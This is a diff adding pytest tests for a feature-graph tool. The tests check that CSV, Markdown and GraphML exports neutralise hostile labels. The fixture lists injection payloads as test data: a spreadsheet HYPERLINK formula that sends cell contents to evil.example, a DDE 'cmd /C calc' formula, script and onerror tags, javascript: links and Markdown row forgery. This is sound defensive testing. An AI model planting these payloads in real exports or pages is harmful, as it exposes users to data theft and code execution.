@@ -4,14 +4,19 @@ lock or staging file, two processes on one output stop with one line instead of 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import shutil
 import subprocess
 import sys
 import warnings
+import xml.etree.ElementTree as ET
 
+import networkx as nx
 import numpy as np
+import pandas as pd
 import pytest
 
 import featgraph as fg_api
@@ -221,3 +226,67 @@ def test_atlas_force_with_a_linked_layers_folder_starts_over(tmp_path):
     assert run.edge_table.groupby(["head", "circuit"]).size().eq(10).all()  # not the old layer's 20
     assert not (tmp_path / "atlas" / "layers").is_symlink()
     assert (elsewhere / "L1" / "manifest.json").is_file()  # what the link pointed to is left alone
+
+
+# ---------------------------------------------------------------- hostile labels in exports (21.11)
+
+HOSTILE_LABELS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click") token',
+    "+cmd|' /C calc'!A0 token",
+    "-2+3 token",
+    "@SUM(A1:A9) token",
+    "token\n| forged | row | row | row |\n| another |",
+    "token <img src=x onerror=alert(1)> <script>alert(2)</script>",
+    "token [click](javascript:alert(3)) ![pixel](http://evil.example/p.png) <javascript:alert(4)>",
+    "token \x01 \x0b control \x1b[31m",
+]
+
+
+@pytest.fixture()
+def hostile(demo_run, tmp_path):
+    """A copy of the demo run whose first features carry hostile labels, each holding the word `token`."""
+    d = tmp_path / "hostile"
+    shutil.copytree(demo_run, d)
+    run = fg_api.open_run(d)
+    f = run.features.head(len(HOSTILE_LABELS))
+    table = pd.DataFrame({"model": [i.split("/")[0] for i in f["id"]], "sae": f["sae"], "index": f["index"],
+                          "description": HOSTILE_LABELS, "explainer": "test"})
+    run.label(label_table=table)
+    return d
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised(hostile):
+    r = fg("search", hostile, "token", "--limit", 20, "--format", "csv")
+    assert r.exit_code == 0, r.output
+    cells = [v for row in csv.reader(io.StringIO(r.stdout)) for v in row]
+    labels = [c for c in cells if "token" in c]
+    assert labels and all(not c.startswith(("=", "+", "-", "@")) for c in labels)
+    assert "'=HYPERLINK(" in r.stdout and "'@SUM(A1:A9) token" in cells and "'-2+3 token" in cells
+    numbers = pd.read_csv(io.StringIO(r.stdout)).select_dtypes("number")
+    assert len(numbers.columns) and (numbers.to_numpy() < 0).any()  # negative numbers stay numbers
+
+
+def test_markdown_shows_labels_as_text(hostile):
+    from markdown_it import MarkdownIt
+
+    r = fg("search", hostile, "token", "--limit", 20, "--format", "md")
+    assert r.exit_code == 0, r.output
+    lines = r.stdout.strip().splitlines()
+    assert all(line.startswith("|") and line.endswith("|") for line in lines)
+    html = MarkdownIt("commonmark").enable("table").render(r.stdout)
+    assert html.count("<tr>") == len(lines) - 1  # header + one per feature: no row forged by a newline
+    widths = {row.count("<td") for row in html.split("<tr>")[2:]}
+    assert len(widths) == 1
+    for bad in ("<img", "<script", "<a ", "href=", "\x1b"):
+        assert bad not in html, bad
+    assert "javascript:alert(3)" in html  # still there, as text
+
+
+def test_graphml_with_control_characters_is_valid_xml(hostile, tmp_path):
+    out = tmp_path / "g.graphml"
+    r = fg("export", hostile, "--graphml", out)
+    assert r.exit_code == 0, r.output
+    ET.parse(out)  # strict XML 1.0
+    g = nx.read_graphml(out)
+    labels = {d.get("description") for _, d in g.nodes(data=True)}
+    assert "token \ufffd \ufffd control \ufffd[31m" in labels and HOSTILE_LABELS[0] in labels
